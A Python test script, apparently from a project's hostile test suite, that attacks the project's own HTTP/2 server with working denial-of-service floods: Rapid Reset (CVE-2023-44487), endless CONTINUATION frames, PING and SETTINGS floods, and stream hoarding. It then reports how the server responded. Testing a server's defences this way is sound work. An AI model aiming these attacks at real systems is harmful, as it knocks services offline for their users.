#!/usr/bin/python3
"""A hostile HTTP/2 client for poolside's app port (tests/hostile).

One attack on one connection, or (--reconnect) on one connection after another
until time runs out; bounded by --seconds, --max-frames and --max-connections. Frames are
built with hyperframe and hpack (python3-h2's dependencies) rather than h2's
state machine, because the attacks break the rules h2 would enforce.

Prints "started" once it runs, then one JSON object: what was sent, how many
connections the peer cut off, the GOAWAY error codes it sent, how long it took.

Attacks:
  rapid_reset   HEADERS then RST_STREAM(CANCEL) on new streams (CVE-2023-44487)
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames forever
  ping_flood    PING frames as fast as the socket takes them
  settings_flood SETTINGS frames as fast as the socket takes them
  hoard         open streams with half a request each and never finish them,
                with a zero receive window so no answer can be delivered
  hoard_acked   the same, acknowledging the server's SETTINGS (so that its
                MAX_CONCURRENT_STREAMS is in force)
"""
import argparse
import json
import select
import socket
import struct
import sys
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, DataFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


class Peer:
    """The connection and what came back on it."""

    def __init__(self, host, port, timeout, ack_settings):
        self.ack_settings = ack_settings
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.inbox = b""
        self.closed = False
        self.goaway_code = None
        self.frames_received = 0

    def send(self, data):
        if self.closed:
            return False
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def poll(self, wait=0.0):
        """Reads what has arrived; notes GOAWAY and end of connection."""
        while not self.closed:
            ready, _, _ = select.select([self.sock], [], [], wait)
            if not ready:
                return
            wait = 0.0
            try:
                chunk = self.sock.recv(1 << 16)
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return
            self.inbox += chunk
            self._parse()

    def _parse(self):
        while len(self.inbox) >= 9:
            length = int.from_bytes(self.inbox[:3], "big")
            if len(self.inbox) < 9 + length:
                return
            frame, _ = Frame.parse_frame_header(memoryview(self.inbox[:9]))
            if isinstance(frame, GoAwayFrame) and length >= 8:
                self.goaway_code = struct.unpack(">I", self.inbox[13:17])[0]
            if (isinstance(frame, SettingsFrame) and "ACK" not in frame.flags
                    and self.ack_settings):
                self.send(SettingsFrame(0, flags=["ACK"]).serialize())
            self.frames_received += 1
            self.inbox = self.inbox[9 + length:]


def request_headers(encoder, authority, method):
    return encoder.encode([
        (":method", "POST"), (":scheme", "http"), (":authority", authority),
        (":path", method), ("content-type", "application/grpc"), ("te", "trailers"),
    ])


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--attack", required=True,
                        choices=["rapid_reset", "continuation", "ping_flood", "settings_flood",
                                 "hoard", "hoard_acked"])
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--max-frames", type=int, default=200000)
    parser.add_argument("--method", default="/poolside.test.Echo/Unary")
    parser.add_argument("--continuation-bytes", type=int, default=16384)
    parser.add_argument("--reconnect", action="store_true",
                        help="when cut off, connect again and go on, until --seconds")
    parser.add_argument("--max-connections", type=int, default=20)
    args = parser.parse_args()

    attack_name = args.attack
    ack_settings = args.attack != "hoard"
    if args.attack == "hoard_acked":
        args.attack = "hoard"
    started = time.monotonic()
    deadline = started + args.seconds
    print("started", flush=True)
    results = []
    while len(results) < args.max_connections:
        results.append(attack_once(args, ack_settings, deadline,
                                   args.max_frames - sum(r["sent"] for r in results)))
        if not args.reconnect or time.monotonic() >= deadline:
            break
        if results[-1]["sent"] == 0 and not results[-1]["closed"]:
            break
    codes = sorted({r["goaway_code"] for r in results if r["goaway_code"] is not None})
    json.dump({"attack": attack_name, "connections": len(results),
               "cut": sum(1 for r in results if r["closed"]),
               "outlasted": sum(1 for r in results if r["outlasted"]),
               "sent": sum(r["sent"] for r in results),
               "closed": all(r["closed"] for r in results),
               "goaway_code": results[0]["goaway_code"], "goaway_codes": codes,
               "frames_received": sum(r["frames_received"] for r in results),
               "seconds": round(time.monotonic() - started, 3)}, sys.stdout)
    sys.stdout.write("\n")


def attack_once(args, ack_settings, deadline, max_frames):
    """One connection, attacked until the peer closes it or time or frames run out."""
    try:
        peer = Peer(args.host, args.port, timeout=args.seconds + 5, ack_settings=ack_settings)
    except OSError:
        return {"sent": 0, "closed": False, "outlasted": False, "goaway_code": None,
                "frames_received": 0}
    # A zero initial window for the hoarding attack: nothing can be answered.
    window = 0 if args.attack == "hoard" else 65535
    peer.send(PREFACE + SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: window})
              .serialize())
    encoder = Encoder()
    authority = "%s:%d" % (args.host, args.port)
    sent = 0
    stream = 1
    ping = 0
    # Half a gRPC message: a 5-byte prefix announcing 100 bytes, and 10 of them.
    half_message = b"\x00" + struct.pack(">I", 100) + b"x" * 10
    # Control floods go out in large bursts, as an attacker's would.
    batch_size = 1024 if args.attack in ("ping_flood", "settings_flood") else 64

    while sent < max_frames and not peer.closed and time.monotonic() < deadline:
        batch = []
        for _ in range(batch_size):
            if args.attack == "rapid_reset":
                batch.append(HeadersFrame(stream, request_headers(encoder, authority, args.method),
                                          flags=["END_HEADERS"]).serialize())
                batch.append(RstStreamFrame(stream, error_code=CANCEL).serialize())
                stream += 2
            elif args.attack == "continuation":
                if sent == 0:
                    batch.append(HeadersFrame(1, request_headers(encoder, authority, args.method))
                                 .serialize())
                # Never END_HEADERS: one literal header that never ends.
                batch.append(ContinuationFrame(1, b"\x00" * args.continuation_bytes).serialize())
            elif args.attack == "ping_flood":
                ping += 1
                batch.append(PingFrame(0, opaque_data=struct.pack(">Q", ping)).serialize())
            elif args.attack == "settings_flood":
                batch.append(SettingsFrame(0, settings={SettingsFrame.MAX_FRAME_SIZE: 16384})
                             .serialize())
            elif args.attack == "hoard":
                batch.append(HeadersFrame(stream, request_headers(encoder, authority, args.method),
                                          flags=["END_HEADERS"]).serialize())
                batch.append(DataFrame(stream, half_message).serialize())
                stream += 2
            sent += 1
            if sent >= max_frames:
                break
        if not peer.send(b"".join(batch)):
            break
        peer.poll()
        if args.attack == "hoard":
            time.sleep(0.005)  # a hoarder is patient; it only needs streams held

    # Give the peer a moment to answer what was sent.
    linger_until = min(time.monotonic() + 1.0, deadline + 1.0)
    while not peer.closed and time.monotonic() < linger_until:
        peer.poll(0.1)
    # Open although the attacker had time left: the peer put up with it.
    outlasted = not peer.closed and time.monotonic() < deadline
    peer.sock.close()
    return {"sent": sent, "closed": peer.closed, "outlasted": outlasted,
            "goaway_code": peer.goaway_code, "frames_received": peer.frames_received}


if __name__ == "__main__":
    main()
